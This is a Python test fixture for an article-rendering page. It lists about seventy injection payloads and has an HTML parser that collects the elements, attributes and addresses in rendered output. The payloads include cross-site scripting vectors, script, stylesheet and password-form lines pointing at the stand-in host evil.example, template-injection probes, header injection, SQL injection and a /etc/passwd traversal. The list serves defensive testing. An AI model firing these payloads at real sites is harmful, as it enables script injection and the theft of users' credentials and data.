"""What an article could hold to break out of a page, or to break it."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final

PAYLOADS: Final = (
    "<x-probe x-mark=1>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<script\x20type='module'>import('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=background:url(//evil.example)>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</mark></p></article><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>1</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "`onmouseover=alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onclick=alert(1) &quot;",
    "\\x3cscript\\x3ealert(1)",
    "\\u003cscript\\u003ealert(1)",
    "{{ 7 * 7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__}{day.__class__}%s%n",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "x\r\nSet-Cookie: evil=1\r\n\r\n<script>1</script>",
    "x\x00<script\x00>alert(1)</script>",
    "\u202e<script>gnirts\u202c",
    "\u2028\u2029<script>1</script>",
    "\ufeff<img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    '=HYPERLINK("http://evil.example")',
    "' OR 1=1 --",
    "'; DROP TABLE articles; --",
    "../../../../etc/passwd",
    "W" * 4_000,
    "<" * 2_000,
    "<b>" * 500,
    "\U0001f600 é́́́́́́́́" * 50,
)
"""Scripts, attributes, addresses, ends of elements, templates, headers, marks that turn words round, and length."""


class Elements(HTMLParser):
    """The elements of a page, each with the names of its attributes, and its addresses."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.found.update((tag, name) for name, _ in [*attrs, ("", None)])
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")]
